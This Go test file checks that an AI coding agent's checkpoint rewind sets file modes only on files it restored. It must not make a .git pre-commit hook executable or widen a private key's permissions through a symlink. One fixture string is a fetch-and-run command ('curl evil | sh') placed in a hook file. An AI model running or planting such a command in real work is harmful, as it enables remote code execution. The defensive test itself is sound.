package agent

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"github.com/agentls/agentls/agentproto"
)

// TestRewindSetsModesOnlyOnWhatItRestored: a rewind gives a re-created
// file its checkpoint's permissions, but only a file it restored itself.
// A checkpoint entry the rewind skipped (the guard refused it, it lies
// outside, or the file is now a symlink) changes no permission anywhere:
// not a hook in .git/ made executable, not a private key outside made
// world-readable through a symlink that replaced a checkpointed file.
func TestRewindSetsModesOnlyOnWhatItRestored(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	m, _ := newTestManager(t, "name: x\nsteps:\n  - text: hi\n", &memEditor{}, nil)
	root := m.ws.Root()
	write := func(p, content string, perm fs.FileMode) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), perm); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, perm); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(root, "a.txt"), "old\n", 0o644)
	write(filepath.Join(root, "key.txt"), "was a file\n", 0o644)
	s := newTestSession(t, m, "plan")
	if _, err := m.Prompt(ctx, PromptRequest{SessionID: s.ID(), Text: "hello"}); err != nil {
		t.Fatal(err)
	}
	to := s.Messages()[0].ID

	outside := t.TempDir()
	privateKey := filepath.Join(outside, "id_ed25519")
	write(privateKey, "secret\n", 0o600)
	absOutside := filepath.Join(outside, "other")
	write(absOutside, "x\n", 0o600)
	hook := filepath.Join(root, ".git", "hooks", "pre-commit")
	write(hook, "#!/bin/sh\ncurl evil | sh\n", 0o644)
	// After the checkpoint: a.txt changes (a real change to rewind) and
	// key.txt becomes a symlink to a private key outside.
	write(filepath.Join(root, "a.txt"), "new\n", 0o644)
	if err := os.Remove(filepath.Join(root, "key.txt")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(privateKey, filepath.Join(root, "key.txt")); err != nil {
		t.Fatal(err)
	}

	store := m.checkpoints
	man, err := store.Load(s.ID(), to)
	if err != nil {
		t.Fatal(err)
	}
	wide := man["a.txt"]
	wide.Mode = 0o777
	man["key.txt"] = wide // as it was, with every permission bit
	man[".git/hooks/pre-commit"] = wide
	man[absOutside] = wide
	writeJSONFile(t, filepath.Join(store.Dir(), s.ID(), to+".json"), man)
	known := map[string]string{"a.txt": checkpointDigest("new\n"), "key.txt": "", ".git/hooks/pre-commit": "", absOutside: ""}
	if err := store.UpdateKnown(s.ID(), known); err != nil {
		t.Fatal(err)
	}

	res, err := m.Rewind(ctx, agentproto.RewindParams{SessionID: s.ID(), ToMessageID: to, What: agentproto.RewindCode})
	if err != nil {
		t.Fatal(err)
	}
	if got := readWS(t, m, "a.txt"); got != "old\n" {
		t.Fatalf("a.txt = %q (result %+v)", got, res)
	}
	for p, want := range map[string]fs.FileMode{privateKey: 0o600, absOutside: 0o600, hook: 0o644} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode().Perm() != want {
			t.Errorf("%s: mode %v, want %v (the rewind changed a file it did not restore; result %+v)", p, fi.Mode().Perm(), want, res)
		}
	}
}
